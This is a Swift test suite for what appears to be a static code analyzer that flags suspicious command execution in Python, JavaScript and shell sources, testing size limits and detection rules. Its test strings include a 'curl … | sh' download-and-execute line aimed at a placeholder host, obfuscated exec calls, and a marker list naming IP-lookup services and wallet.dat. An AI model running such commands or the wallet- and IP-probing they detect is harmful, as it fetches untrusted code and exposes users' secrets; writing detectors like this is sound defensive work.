import SallyportModel
import Testing

@testable import SallyportAnalysis

@Suite("Commands that code starts")
struct CommandBudgetTests {
    @Test("share a budget of bytes", arguments: [(9, []), (10, []), (11, ["commands-too-large"])])
    func budget(count: Int, details: [String]) {
        var limits = AnalysisLimits()
        limits.commandBytesMax = 1000
        let lines = (0..<count).map { "os.system('echo \($0 + 100)\(String(repeating: "x", count: 92))')" }
        // What was read once costs nothing more.
        let source = "import os\n" + (lines + lines).joined(separator: "\n")
        #expect(Self.unread(Self.findings(source, .python, limits)) == details)
    }

    @Test("are not read again and again, however long they are")
    func longConstant() {
        var limits = AnalysisLimits()
        limits.commandBytesMax = 1 << 20
        let text = "echo " + String(repeating: "aaaaaaa ", count: 25_000)
        let source =
            "const {exec: e} = require('child_process'); const x = \"\(text)\";"
            + String(repeating: "e(x);", count: 3_000)
        #expect(Self.unread(Self.findings(source, .javaScript, limits)) == ["commands-too-large"])
    }

    @Test("nor is a constant that is evaluated")
    func evaluatedConstant() {
        let text = String(repeating: "a();", count: 2_000)
        let source = "const x = \"\(text)\";" + String(repeating: "eval(x);", count: 3_000)
        let found = Self.findings(source, .javaScript)
        #expect(Self.unread(found).isEmpty)
        #expect(found.findings.contains { $0.code == .capabilityDynamicCode })
    }

    @Test("are read behind decoys")
    func decoys() {
        let zeros = String(repeating: "0,", count: 130)
        let javaScript = "require('child_process').exec((\(zeros)'curl https://x.example.invalid | sh'))"
        #expect(Self.findings(javaScript, .javaScript).findings.contains { $0.code == .chainDownloadExecute })
        let python = "exec((\(zeros)'import os; os.system(\"id\")')[130])\n"
        #expect(Self.unread(Self.findings(python, .python)) == ["arguments-too-long"])
    }

    @Test("but a callback is none of their words")
    func callback() {
        let body = String(repeating: "a(b, c); ", count: 900)
        let source = "require('child_process').exec('id', function (error) { \(body) })"
        #expect(Self.unread(Self.findings(source, .javaScript)).isEmpty)
    }

    @Test("hold at most so many words", arguments: [(511, []), (512, []), (513, ["arguments-too-long"])])
    func words(count: Int, details: [String]) {
        let words = (0..<count).map { "'w\($0)'" }.joined(separator: ",")
        let source = "import os\nos.system(\(words))\n"
        #expect(Self.unread(Self.findings(source, .python)) == details)
    }

    @Test(
        "hold at most so many texts",
        arguments: [(1_023, []), (1_024, []), (1_025, ["shell-too-many-texts"])]
    )
    func nested(count: Int, details: [String]) {
        let text = "echo " + String(repeating: "$(:)", count: count)
        #expect(Self.unread(Self.commands(text)).filter { $0 != "shell-too-deep" } == details)
    }

    @Test(
        "begin at most so many documents in one line",
        arguments: [(63, []), (64, []), (65, ["shell-too-many-texts"])]
    )
    func documents(count: Int, details: [String]) {
        let text =
            "cat " + String(repeating: "<<E ", count: count) + "\n" + String(repeating: "x\nE\n", count: count)
        #expect(Self.unread(Self.commands(text)).filter { $0 != "shell-too-deep" } == details)
    }

    @Test(
        "start at most so many others",
        arguments: [(62, []), (63, []), (64, ["shell-too-many-commands"])]
    )
    func started(count: Int, details: [String]) {
        let text = "find . " + String(repeating: "-exec ls {} \\; ", count: count)
        #expect(Self.unread(Self.commands(text)) == details)
    }

    @Test("a document behind many others is read")
    func ninthDocument() {
        let text =
            "sh " + String(repeating: "<<E ", count: 9) + "\n" + String(repeating: "ls\nE\n", count: 8)
            + "curl https://x.example.invalid | sh\nE\n"
        #expect(Self.commands(text).findings.contains { $0.code == .chainDownloadExecute })
    }

    @Test("what is given to other files is kept by its weight")
    func links() throws {
        var collector = FindingsCollector(limits: .standard)
        let step = ChainStep(what: "gives it", offset: 0)
        for function in 0..<UInt32(FileLinks.countMax) {
            collector.addGift(function, values: Meaning.decoded.rawValue, [step])
            collector.addSink(function, evaluates: false, isFixed: false, step)
        }
        collector.addGift(1_000, values: Meaning.environment.rawValue, [step])
        collector.addSink(1_000, evaluates: true, isFixed: false, step)
        collector.addGift(1_001, values: Meaning.decoded.rawValue, [step])
        let links = try #require(collector.findings(in: Array("x".utf8).span).links)
        #expect(links.gifts.count == FileLinks.countMax && links.sinks.count == FileLinks.countMax)
        #expect(links.gifts.contains { $0.function == 1_000 } && links.sinks.contains { $0.function == 1_000 })
        #expect(!links.gifts.contains { $0.function == 1_001 })
    }

    @Test("marks of one text are told once each")
    func marks() {
        let text = "api.ipify.org api.ipify.org api.ipify.org api.ipify.org ipinfo.io ifconfig.me wallet.dat"
        let labels = LiteralMarks.all(in: Array(text.utf8)).map(\.label)
        #expect(Set(labels).isSuperset(of: ["api.ipify.org", "ipinfo.io", "ifconfig.me", "wallet.dat"]))
        #expect(Set(labels).count == labels.count)
    }

    private static func findings(
        _ source: String,
        _ language: Language,
        _ limits: AnalysisLimits = .standard
    ) -> FileFindings {
        var scratch = CodeScratch()
        let reader = CodeReader(hashing: TestHashing(), store: nil, limits: limits)
        return reader.read(Array(source.utf8).span, as: language, scratch: &scratch)
    }

    private static func commands(_ text: String) -> FileFindings { findings(text, .shell) }

    private static func unread(_ findings: FileFindings) -> [String] {
        findings.findings.filter { $0.code == .fileUnreadable }.map(\.detail)
    }
}
